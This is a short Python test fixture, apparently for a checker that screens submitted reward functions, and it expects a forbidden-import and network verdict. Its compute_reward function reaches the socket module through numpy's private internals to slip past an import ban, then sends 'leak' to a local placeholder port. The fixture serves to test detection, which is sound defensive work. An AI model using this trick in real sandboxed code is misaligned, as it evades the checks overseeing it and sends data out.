# ruff: noqa
# Phones home through sys.modules reached via numpy internals.
# expect: forbidden_import
# expect-runtime: network
# message: _core
import numpy as np


def compute_reward(s):
    sock = np._core._add_newdocs_scalars.sys.modules["socket"]
    sock.create_connection(("127.0.0.1", int("@PORT@")), timeout=2).sendall(b"leak")
    return s.x, {"x": s.x}
